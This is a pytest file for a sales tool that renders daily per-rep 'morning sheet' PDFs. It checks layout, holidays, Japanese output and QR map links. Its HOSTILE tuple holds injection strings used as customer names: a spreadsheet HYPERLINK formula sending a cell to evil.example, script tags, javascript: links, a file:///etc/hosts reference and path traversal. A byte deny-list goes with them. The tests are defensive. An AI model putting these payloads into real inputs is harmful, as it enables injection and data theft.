"""Morning sheets on paper: real PDFs read back."""

import io
import shutil
import subprocess
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from workbench.actions import actions
from workbench.documents.morning import morning_sheets
from workbench.documents.morning_page import morning_pdf
from workbench.targeting import commands
from workbench.targeting.filters import Condition, Group
from workbench.value import statements
from workbench.workspace import Workspace
from workbench.workspace.sample import create_sample

Company = Callable[..., Workspace]
TODAY = date(2026, 11, 24)


def printed(workspace: Workspace, day: date = TODAY, paper: str = "A4", grey: bool = False) -> bytes:
    with workspace.read() as session:
        return morning_pdf(morning_sheets(session, day), paper, grey)[0]


def texts(content: bytes) -> list[str]:
    return ["".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(content)).pages]


@pytest.mark.parametrize(
    ("stops", "paper"), [*((n, "A4") for n in (0, 1, 4, 5, 8, 9, 14, 15, 20, 24, 30, 60)), (4, "Letter"), (20, "Letter")]
)
def test_one_page_a_rep_whatever_the_number_of_visits(company: Company, stops: int, paper: str) -> None:
    pages = texts(printed(company(stops=stops, reps=2), paper=paper))
    assert len(pages) == 2
    for number, page in enumerate(pages, 1):
        assert f"{number}/2" in page
        assert page.count("Trialbatch") == -(-stops // 5)


def test_a_sheet_says_all_that_a_rep_needs(company: Company) -> None:
    (page,) = texts(printed(company()))
    for words in ("Tuesday24November", "60newordersby31Mar2027", "5visits,", "HOWMANY", "WHOM", "WHATTOSAY", "09:20", "to10:30", "阪神メディカル,T.Endo",
                  "Amagasaki,Tsukaguchi1-8", "28mindrive,lastvisit13daysago", "Trialbatchresult;askforQ1volumes", "met", "proposal", "order", "next",
                  "WHOLEROUTE", "IFONEFALLSTHROUGH", "HiranoSeiki", "KitagawaPrecision·confidential"):  # fmt: skip
        assert words in page, words


def test_what_to_say_is_the_best_value_statement_for_the_customers_of_the_day_else_the_topics_of_their_tier(company: Company) -> None:
    workspace = company()
    topics = "Aprototypein48hoursinsteadof9days"

    def said() -> str:
        return texts(printed(workspace))[0].split("WHATTOSAY")[1]

    assert topics in said()
    with workspace.edit("Value") as session:
        machinery = commands.add(session, "Machinery", Group("and", (Condition("industry", "is", "Machinery"),)))
        statements.add(session, machinery, "Stock of springs")
        strong = statements.add(session, machinery, "Yearly frame")
        statements.change(session, strong, gain="Springs in stock", before=6, after=3, unit="weeks")
    assert "Springsinstock:6→3weeks" in said() and topics not in said() and "Stockofsprings" not in said()
    with workspace.edit("Nobody") as session:
        commands.set_filter(session, machinery, Group("and", (Condition("industry", "is", "Shipping"),)))
    assert topics in said()


def test_open_actions_of_the_rep_stand_beside_the_visits(company: Company) -> None:
    workspace = company(reps=2)
    with workspace.edit("Actions") as session:
        actions.add(session, "Quote to Nara", rep=1, due=date(2026, 11, 16))
        actions.add(session, "Price table", rep=1, due=date(2026, 12, 11))
        actions.add(session, "Finished already", rep=1, status="done")
        actions.add(session, "Somebody else", rep=2)
    first, second = texts(printed(workspace))
    assert "OPENACTIONSQuotetoNara8dayslatePricetableby11Dec" in first and "Finished" not in first and "Somebodyelse" not in first
    assert "Somebodyelse" in second and "IFONEFALLSTHROUGH" in second


def test_a_working_day_without_visits_is_one_for_open_actions(company: Company) -> None:
    workspace = company(stops=0)
    with workspace.edit("Actions") as session:
        for number in range(12):
            actions.add(session, f"Action {number}", rep=1)
    (page,) = texts(printed(workspace))
    assert "Novisitsplannedfortoday." in page and "OPENACTIONS,6OF12Action0" in page and "NOTES" in page
    assert "OPENACTIONS" not in texts(printed(workspace, date(2026, 11, 23)))[0]


def test_more_actions_than_there_is_room_for_are_counted(company: Company) -> None:
    workspace = company()
    with workspace.edit("Actions") as session:
        for number in range(9):
            actions.add(session, f"Action number {number} with a title that takes two lines", rep=1, due=date(2026, 11, 30))
    (page,) = texts(printed(workspace))
    assert "OPENACTIONS,2OF9" in page and "WHOLEROUTE" in page and "IFONEFALLSTHROUGH" in page


def test_a_holiday_is_said_in_place_of_the_visits(company: Company) -> None:
    (page,) = texts(printed(company(), date(2026, 11, 23)))
    assert "LaborThanksgivingDay:novisitstoday." in page and "ThenextsheetisforTuesday24November:5visits,thefirstat09:20." in page


def test_a_japanese_company_gets_a_japanese_sheet(company: Company) -> None:
    (page,) = texts(printed(company(language="ja")))
    assert "11月24日（火）" in page and "北川精密" in page and "朝の訪問シート" in page and "Morningsheet" not in page


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert(1)</script>", "<b>Miller & Sons <i>", '<img src="file:///etc/hosts"/>',
    '<a href="javascript:alert(1)">x</a>', "&nbsp;&#0;&#xD800;&bogus;", "\u202eevil\u202c شركة مثال", "A\u200bB\u200dC\ufeffD", "👨‍👩‍👧‍👦🏳️‍🌈 商店",
    "Z" + "\u0301" * 300, "あ" * 5_000, "first\r\nsecond\u2028third", "bell\x07esc\x1b[31mred",
    "../../../../tmp/pwned", "%s%n%x {0} {name}", ".", "\u3000\u00a0 ",
    "W" * 400, "שלום עולם",
)  # fmt: skip


@pytest.mark.parametrize("stops", [5, 14, 20])
def test_hostile_names_print_on_one_page_and_do_nothing(company: Company, stops: int) -> None:
    for start in range(0, len(HOSTILE), stops):
        content = printed(company(stops=stops, names=HOSTILE[start:] + HOSTILE[:start]))
        assert len(texts(content)) == 1
        assert not any(word in content for word in (b"/JavaScript", b"/Launch", b"/URI", b"/EmbeddedFile", b"file:///", b"javascript:"))


@pytest.mark.skipif(not shutil.which("zbarimg") or not shutil.which("pdftoppm"), reason="needs zbarimg and pdftoppm to read codes back")
@pytest.mark.parametrize("stops", [5, 14, 20])
def test_every_code_on_the_paper_is_read_back(company: Company, tmp_path: Path, stops: int) -> None:
    (tmp_path / "sheet.pdf").write_bytes(printed(company(stops=stops)))
    subprocess.run(["pdftoppm", "-r", "200", "-gray", "-png", tmp_path / "sheet.pdf", tmp_path / "sheet"], check=True)
    found = subprocess.run(["zbarimg", "-q", "--raw", tmp_path / "sheet-1.png"], capture_output=True, text=True, check=True).stdout.split()
    places = {(34.7527, 135.4172), (34.6930, 135.7130), (34.6810, 135.8195), (34.6070, 135.6010), (34.6640, 135.5710)}
    stop_links = {f"https://www.google.com/maps/dir/?api=1&destination={lat:.5f},{lng:.5f}" for lat, lng in places}
    assert stop_links <= set(found)
    assert sum("waypoints" in link for link in found) == -(-stops // 9)


@pytest.mark.parametrize("grey", [False, True])
def test_the_map_of_the_day_stands_below_few_visits_as_lines(company: Company, grey: bool) -> None:
    reader = PdfReader(io.BytesIO(printed(company(stops=3), grey=grey)))
    (page,) = reader.pages
    text = "".join(page.extract_text().split())
    for words in ("CoastGSHHG,bordersJMA,railMLIT,townsGeolonia", "km"):
        assert words in text
    assert text.count("HanshinMedicalDevices") == 2, "in the list and on the map"
    assert list(page.images) == []


def test_a_full_day_gives_its_room_to_the_visits(company: Company) -> None:
    (page,) = texts(printed(company(stops=20)))
    assert "CoastGSHHG" not in page


def test_the_way_has_the_numbers_of_the_sheet(company: Company) -> None:
    with company(stops=4).read() as session:
        (sheet,) = morning_sheets(session, TODAY)
    assert sheet.way is not None
    assert [(stop.number, stop.name) for stop in sheet.way.stops] == [
        (number, stop.name) for number, stop in enumerate(sheet.stops, 1) if stop.place
    ]


def test_the_side_ends_above_the_foot(tmp_path: Path) -> None:
    with create_sample(tmp_path / "sample.asaichi", "en", TODAY) as sample:
        pages = PdfReader(io.BytesIO(printed(sample))).pages
    for page in pages:
        heights: dict[bool, list[float]] = {True: [], False: []}

        def note(
            text: str, _cm: object, matrix: list[float], _font: object, _size: float, heights: dict[bool, list[float]] = heights
        ) -> None:
            if text.strip():
                heights["confidential" in text or " / 3" in text and matrix[5] < 60].append(matrix[5])

        page.extract_text(visitor_text=note)
        assert min(heights[False]) > max(heights[True]) + 18, heights
